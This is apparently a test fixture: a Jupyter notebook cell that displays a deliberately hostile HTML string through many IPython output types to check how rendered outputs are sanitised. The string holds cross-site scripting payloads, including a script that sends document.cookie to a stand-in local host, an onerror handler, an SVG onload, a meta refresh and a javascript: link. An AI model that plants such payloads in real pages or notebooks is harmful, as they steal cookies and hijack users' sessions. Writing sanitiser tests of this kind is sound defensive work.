"""
threat = 22
why = "Rich outputs with scripts, forms, frames, remote images and styles; the work is right."
base = "solution"
"""

# %% + before=add
from IPython.display import HTML, SVG, Javascript, Markdown, display

hostile = (
    "<script>fetch('http://127.0.0.1:9/?' + document.cookie)</script><form action='http://127.0.0.1:9/'><button>"
    "<iframe src='http://127.0.0.1:9/'></iframe><img src='http://127.0.0.1:9/x.png' onerror='steal()'>"
    "<style>@import 'http://127.0.0.1:9/x.css'; .marks { display: none }</style><base href='http://127.0.0.1:9/'>"
    "<meta http-equiv='refresh' content='0;url=http://127.0.0.1:9/'><a href='javascript:steal()'>x</a>"
)
display(HTML(hostile), Markdown(hostile), Javascript("steal()"))
display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload='steal()'><foreignObject>{hostile}</foreignObject></svg>"))
display({"application/vnd.jupyter.widget-view+json": "{}", "text/latex": hostile, "application/x-y": hostile}, raw=True)
print(hostile)
HTML(hostile)
